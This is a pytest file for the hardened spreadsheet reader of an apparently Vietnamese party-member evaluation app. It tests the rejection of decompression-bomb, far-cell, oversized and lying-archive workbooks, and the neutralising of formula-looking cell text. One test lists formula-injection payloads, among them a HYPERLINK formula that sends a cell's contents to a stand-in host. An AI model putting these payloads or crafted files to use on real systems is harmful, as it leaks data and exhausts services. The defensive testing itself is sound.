"""Finding 1 of the security review: a few kilobytes of workbook asked the reader for
hundreds of gigabytes. Every hostile workbook is refused before a grid is built, with a
Vietnamese message naming the limit, in a child process capped at 1.5 GB of address
space; honest workbooks — a province's import among them — still read."""

from __future__ import annotations

import io
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from kiemdiem.safefiles import hostile
from kiemdiem.safefiles.spreadsheet import (
    Limits,
    SpreadsheetRefused,
    inspect,
    open_workbook,
    xlsx_bytes,
)

from .budget import run_capped

HEADER = ["Số thẻ đảng viên", "Họ và tên", "Mã chi bộ"]
SHEET = "Đảng viên"


@pytest.mark.parametrize("case", sorted(hostile.CASES))
def test_every_hostile_workbook_is_refused_before_a_grid_is_built(case: str) -> None:
    body = hostile.CASES[case](SHEET, HEADER)
    with pytest.raises(SpreadsheetRefused) as refused:
        inspect(body)
    message = refused.value.message
    # Vietnamese, and it says what is wrong: the cell, the limit, the ratio or the DTD.
    assert any(w in message for w in ("vượt giới hạn", "nén bất thường", "ô gộp", "DTD"))


@pytest.mark.parametrize("case", sorted(hostile.CASES))
def test_the_import_reader_survives_each_hostile_file_within_its_memory_budget(
    case: str, tmp_path: Path
) -> None:
    path = tmp_path / "hostile.xlsx"
    path.write_bytes(hostile.CASES[case](SHEET, HEADER))
    code, out, peak = run_capped(
        f"""
        import django; django.setup()
        from kiemdiem.apps.imports.reader import read_workbook
        data, problems = read_workbook({str(path)!r})
        assert not data, data
        print("REFUSED:", problems[0])
        """
    )
    assert code == 0, out
    assert "REFUSED:" in out
    assert peak < 400, f"{case}: {peak:.0f} MiB"


def test_the_cli_refuses_the_far_cell_workbook_within_its_budget(tmp_path: Path) -> None:
    path = tmp_path / "scenario.xlsx"
    meta = hostile.row_xml(1, ["trường", "giá trị"]) + "".join(
        hostile.row_xml(n, row)
        for n, row in enumerate(
            (["version", 1], ["ruleset", "qd366-2025"], ["year", 2025]), start=2
        )
    )
    far = hostile.row_xml(1, ["id", "name", "organization"]) + (
        '<row r="1048576">' + hostile.cell("XFD1048576", "x") + "</row>"
    )
    path.write_bytes(
        hostile.workbook({"Kịch bản": hostile.sheet_xml(meta), "Đảng viên": hostile.sheet_xml(far)})
    )
    code, out, peak = run_capped(
        f"""
        import sys
        from kiemdiem.cli import main
        sys.exit(main(["evaluate", {str(path)!r}, "--format", "text"]))
        """
    )
    assert code == 2, out  # an invalid file: exit 2, the reason on standard error
    assert "XFD1048576" in out and "vượt giới hạn" in out
    assert peak < 400


def test_a_million_rows_are_refused_at_the_row_limit() -> None:
    body = hostile.many_rows(SHEET, HEADER, rows=1_200)
    with pytest.raises(SpreadsheetRefused) as refused:
        inspect(body, Limits(max_rows=1_000))
    assert "C1201" in refused.value.message and "1.000 dòng" in refused.value.message


def test_cells_without_references_are_placed_and_counted() -> None:
    # Excel's own files give every cell its reference; a generator may leave them out.
    shape = inspect(hostile.implicit_wide(SHEET, HEADER, columns=10))
    assert shape.sheets[0].columns == 10 and shape.sheets[0].rows == 2


def test_a_lying_archive_size_is_caught_while_inflating() -> None:
    import struct
    import zipfile

    honest = hostile.workbook({SHEET: hostile.sheet_xml(hostile.row_xml(1, HEADER))})
    # Declare the worksheet smaller than it is in the central directory.
    z = zipfile.ZipFile(io.BytesIO(honest))
    info = z.getinfo("xl/worksheets/sheet1.xml")
    body = bytearray(honest)
    central = body.rfind(b"PK\x01\x02", 0, len(body))
    while central != -1:
        name_len = struct.unpack_from("<H", body, central + 28)[0]
        name = bytes(body[central + 46 : central + 46 + name_len])
        if name == info.filename.encode():
            struct.pack_into("<I", body, central + 24, 10)
            break
        central = body.rfind(b"PK\x01\x02", 0, central)
    with pytest.raises(SpreadsheetRefused):
        inspect(bytes(body))


def test_not_a_workbook_is_refused_in_vietnamese() -> None:
    for body in (b"", b"PK\x03\x04garbage", b"<html>", hostile.workbook({})[:100]):
        with pytest.raises(SpreadsheetRefused) as refused:
            inspect(body)
        assert "Excel" in refused.value.message or "hỏng" in refused.value.message


def test_an_honest_workbook_is_opened_and_its_shape_known() -> None:
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.title = SHEET
    ws.append(HEADER)
    for n in range(1, 51):
        ws.append([f"{n:06d}", f"Nguyễn Văn {n}", "CB-TT"])
    book, shape = open_workbook(xlsx_bytes(wb))
    assert shape.sheets[0].rows == 51 and shape.sheets[0].columns == 3
    assert book.get_sheet_by_name(SHEET).to_python()[50][1] == "Nguyễn Văn 50"


def test_text_that_looks_like_a_formula_is_written_as_text() -> None:
    """Finding 4: `=HYPERLINK("http://…?d="&B3,…)` typed as a name came out as a live
    formula. Every cell starting =, +, -, @, tab or CR is written as text."""
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    payloads = ['=HYPERLINK("http://x/?d="&B3,"bấm")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
    ws.append([*payloads, 42, "bình thường"])
    back = load_workbook(io.BytesIO(xlsx_bytes(wb))).active
    assert back is not None
    cells = next(iter(back.iter_rows(min_row=1, max_row=1)))
    for cell, typed in zip(cells, payloads, strict=False):
        assert cell.data_type == "s" and cell.value == typed
        assert cell.quotePrefix  # stays text when edited in Excel
    assert cells[len(payloads)].value == 42 and cells[len(payloads)].data_type == "n"


def test_a_cell_calamine_cannot_read_is_a_problem_not_a_crash() -> None:
    """Found by the fuzzing harness: a boolean cell holding "00" made calamine raise from
    the import reader and the scenario reader (a 500 on both pages)."""
    import django

    django.setup()
    from kiemdiem.apps.imports.reader import read_workbook
    from kiemdiem.rules.workbook import WorkbookError, from_xlsx

    rows = hostile.row_xml(1, HEADER) + '<row r="2"><c r="A2" t="b"><v>00</v></c></row>'
    body = hostile.workbook({SHEET: hostile.sheet_xml(rows), "Kịch bản": hostile.sheet_xml(rows)})
    data, problems = read_workbook(io.BytesIO(body))
    assert any(
        p.sheet == "Đảng viên" and "Không đọc được trang tính" in p.message for p in problems
    ), problems
    assert "members" not in data
    with pytest.raises(WorkbookError) as refused:
        from_xlsx(body)
    assert "Không đọc được tệp Excel" in str(refused.value.problems)
